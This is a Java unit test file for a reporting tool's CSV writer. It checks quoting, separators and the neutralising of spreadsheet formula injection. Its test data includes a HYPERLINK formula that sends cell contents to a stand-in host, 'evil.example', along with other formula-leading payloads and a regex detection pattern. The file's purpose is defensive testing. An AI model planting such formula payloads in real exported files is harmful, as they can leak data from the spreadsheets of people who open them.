package io.closedloop.lead.reporting.table;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.closedloop.lead.reporting.InvalidParameterException;
import io.closedloop.lead.reporting.table.FlatTable.Column;
import io.closedloop.lead.reporting.table.FlatTable.Type;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.DriverManager;
import java.sql.SQLException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class CsvTest {
    private static final List<Column> COLUMNS = List.of(
            new Column("campaign", Type.TEXT),
            new Column("count", Type.WHOLE),
            new Column("rate", Type.REAL),
            new Column("revenue_USD", Type.AMOUNT));

    /** Texts that begin as a formula does, or would where a spreadsheet splits at another separator. */
    private static final List<String> FORMULAS = List.of(
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")",
            "+49 30 1234",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\n=1",
            "＝1+1",
            "＋1",
            "－1",
            "＠A1",
            " =1",
            "\u00a0=1",
            "\"=1",
            "a;=1",
            "a,=1",
            "a\t@A1",
            "a\r\n-1",
            "a; \"=1",
            "--x",
            "=");

    private static final List<String> HARMLESS =
            List.of("spring", "a=b", "1-2", "me@example.com", "a; b", "", " x", "'quoted'", "'=1", "ｘ＝1", "two\nlines");

    @TempDir
    private Path directory;

    @Test
    void writesALinePerRowAndLeavesEmptyWhatIsNotThere() throws Exception {
        assertThat(render(
                        new FlatTable(
                                COLUMNS,
                                List.of(
                                        line("spring", 3L, 1e-5, new BigDecimal("-12.50")),
                                        line(null, 2L, null, new BigDecimal("100")))),
                        CsvForm.STANDARD))
                .isEqualTo("campaign,count,rate,revenue_USD\r\nspring,3,0.000010,-12.50\r\n,2,,100\r\n");
    }

    @Test
    void quotesWhatNeedsIt() throws Exception {
        List<List<@Nullable Object>> lines = Stream.of("a,b", "a;b", "a\tb", "say \"hi\"", "two\r\nlines", "", " x")
                .map(text -> line(text, 1L, 0.5, null))
                .toList();

        assertThat(render(new FlatTable(COLUMNS, lines), CsvForm.STANDARD).split("\r\n"))
                .containsExactly(
                        "campaign,count,rate,revenue_USD",
                        "\"a,b\",1,0.5,",
                        "\"a;b\",1,0.5,",
                        "\"a\tb\",1,0.5,",
                        "\"say \"\"hi\"\"\",1,0.5,",
                        "\"two",
                        "lines\",1,0.5,",
                        "\"\",1,0.5,",
                        "\" x\",1,0.5,");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            ignoreLeadingAndTrailingWhitespace = false,
            value = {
                "=SUM(A1)|'=SUM(A1)",
                "=HYPERLINK(\"http://x/?\"&A1,\"y\")|\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"y\"\")\"",
                "+49 30|'+49 30",
                "-12.50|'-12.50",
                "@A1|'@A1",
                "＝1|'＝1",
                "＋1|'＋1",
                "－1|'－1",
                "＠1|'＠1",
                " =1|\" '=1\"",
                "\"=1|\"\"\"'=1\"",
                "a;=1|\"a;'=1\"",
                "a,=1;-2|\"a,'=1;'-2\"",
                "a=1|a=1",
                "1-2|1-2",
                "me@example.com|me@example.com",
                "a; b|\"a; b\"",
            })
    void noTextIsAFormula(String text, String field) throws Exception {
        assertThat(render(new FlatTable(List.of(COLUMNS.getFirst()), List.of(line(text))), CsvForm.STANDARD))
                .isEqualTo("campaign\r\n" + field + "\r\n");
        assertThat(render(new FlatTable(List.of(new Column(text, Type.TEXT)), List.of()), CsvForm.STANDARD))
                .as("as the name of a column")
                .isEqualTo(field + "\r\n");
    }

    @Test
    void noTextBeginsWithATabOrALineBreak() {
        assertThat(Csv.withoutFormulas("\tx")).isEqualTo("'\tx");
        assertThat(Csv.withoutFormulas("\rx")).isEqualTo("'\rx");
        assertThat(Csv.withoutFormulas("\nx")).isEqualTo("'\nx");
        assertThat(Csv.withoutFormulas("\t=x")).isEqualTo("'\t'=x");
        assertThat(Csv.withoutFormulas("a\r\n=x")).isEqualTo("a\r\n'=x");
    }

    @Test
    void numbersStayNumbersInEveryForm() throws Exception {
        var table = new FlatTable(
                List.of(
                        new Column("difference_count", Type.WHOLE),
                        new Column("difference_rate", Type.REAL),
                        new Column("difference_revenue_USD", Type.AMOUNT)),
                List.of(line(-3L, -0.25, new BigDecimal("-12.50"))));

        for (CsvForm form : List.of(CsvForm.STANDARD, CsvForm.RAW, new CsvForm(CsvForm.Kind.EXCEL, ','))) {
            assertThat(render(table, form)).endsWith("\r\n-3,-0.25,-12.50\r\n");
        }
    }

    @Test
    void rawIsReadBackAsItWasGiven() throws Exception {
        List<String> texts = Stream.concat(FORMULAS.stream(), HARMLESS.stream()).toList();
        for (char separator : CsvForm.SEPARATORS.toCharArray()) {
            var form = new CsvForm(CsvForm.Kind.RAW, separator);

            List<List<@Nullable String>> read = read(render(texts, form), separator);

            assertThat(read)
                    .isEqualTo(texts.stream()
                            .map(text -> Arrays.asList(text, "-1", null, "-0.50"))
                            .toList());
        }
    }

    @Test
    void escapedIsReadBackWithNothingButApostrophesMore() throws Exception {
        List<String> texts = Stream.concat(FORMULAS.stream(), HARMLESS.stream()).toList();
        for (CsvForm form : List.of(CsvForm.STANDARD, new CsvForm(CsvForm.Kind.EXCEL, ';'))) {
            List<List<@Nullable String>> read = read(render(texts, form), form.separator());

            for (int i = 0; i < texts.size(); i++) {
                String text = texts.get(i);
                String field = String.valueOf(read.get(i).getFirst());
                assertThat(field).as(text).doesNotContainPattern("(?:^|[,;\t\r\n])[\\s\u00a0\"]*[=+\\-@＝＋－＠]");
                assertThat(field.replace("'", "")).isEqualTo(text.replace("'", ""));
                assertThat(field.equals(text)).as(text).isEqualTo(HARMLESS.contains(text));
                assertThat(read.get(i).subList(1, 4)).containsExactly("-1", null, "-0.50");
            }
        }
    }

    private static String render(FlatTable table, CsvForm form) throws IOException {
        var out = new ByteArrayOutputStream();
        Csv.write(table, form, out);
        return out.toString(StandardCharsets.UTF_8);
    }

    private static String render(List<String> texts, CsvForm form) throws IOException {
        List<List<@Nullable Object>> lines = texts.stream()
                .map(text -> line(text, -1L, null, new BigDecimal("-0.50")))
                .toList();
        return render(new FlatTable(COLUMNS, lines), form);
    }

    /** What DuckDB's own reader of such files makes of it. */
    private List<List<@Nullable String>> read(String csv, char separator) throws IOException, SQLException {
        Path file = Files.writeString(directory.resolve("read.csv"), csv);
        String sql =
                "SELECT * FROM read_csv('%s', header = true, all_varchar = true, auto_detect = false, allow_quoted_nulls = false, delim = '%s', quote = '\"', escape = '\"', new_line = '\\r\\n', columns = {'a': 'VARCHAR', 'b': 'VARCHAR', 'c': 'VARCHAR', 'd': 'VARCHAR'})"
                        .formatted(file, separator);
        try (var connection = DriverManager.getConnection("jdbc:duckdb:");
                var statement = connection.createStatement();
                var row = statement.executeQuery(sql)) {
            var rows = new ArrayList<List<@Nullable String>>();
            while (row.next()) {
                rows.add(Arrays.asList(row.getString(1), row.getString(2), row.getString(3), row.getString(4)));
            }
            return rows;
        }
    }

    @Test
    void forExcelItBeginsWithAByteOrderMark() throws Exception {
        var out = new ByteArrayOutputStream();

        Csv csv = Csv.to(out, new CsvForm(CsvForm.Kind.EXCEL, ';'), List.of("owner", "n"));
        csv.row(List.of("Zoë", 1L));
        csv.flush();

        assertThat(out.toByteArray()).startsWith(0xEF, 0xBB, 0xBF);
        assertThat(out.toString(StandardCharsets.UTF_8)).isEqualTo("\uFEFFowner;n\r\nZoë;1\r\n");
    }

    @Test
    void aRowHasAsManyValuesAsThereAreColumns() throws Exception {
        Csv csv = Csv.to(new ByteArrayOutputStream(), CsvForm.STANDARD, List.of("a", "b"));

        assertThatThrownBy(() -> csv.row(List.of("only one")))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessage("1 values for 2 columns");
    }

    @Test
    void hasAHeaderWithoutRows() throws Exception {
        assertThat(render(new FlatTable(COLUMNS, List.of()), CsvForm.STANDARD))
                .isEqualTo("campaign,count,rate,revenue_USD\r\n");
    }

    @Test
    void readsItsFormFromParameters() {
        assertThat(CsvForm.parse(Map.of("channel", List.of("EMAIL")))).isEqualTo(CsvForm.STANDARD);
        assertThat(CsvForm.parse(Map.of("csv", List.of("escaped"), "separator", List.of("\t"))))
                .isEqualTo(new CsvForm(CsvForm.Kind.ESCAPED, '\t'));
        assertThat(CsvForm.parse(Map.of("csv", List.of("raw")))).isEqualTo(CsvForm.RAW);
        assertThat(CsvForm.parse(Map.of("csv", List.of("excel"), "separator", List.of(";"))))
                .isEqualTo(new CsvForm(CsvForm.Kind.EXCEL, ';'));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "csv=",
                "csv=RAW",
                "csv=true",
                "separator=",
                "separator=,,",
                "separator=|",
                "separator==",
                "separator=\""
            })
    void refusesAnotherForm(String parameter) {
        int equals = parameter.indexOf('=');
        String name = parameter.substring(0, equals);

        assertThatThrownBy(() -> CsvForm.parse(Map.of(name, List.of(parameter.substring(equals + 1)))))
                .isInstanceOfSatisfying(
                        InvalidParameterException.class,
                        refused -> assertThat(refused.parameter()).isEqualTo(name));
    }

    private static List<@Nullable Object> line(@Nullable Object... values) {
        return Arrays.asList(values);
    }
}
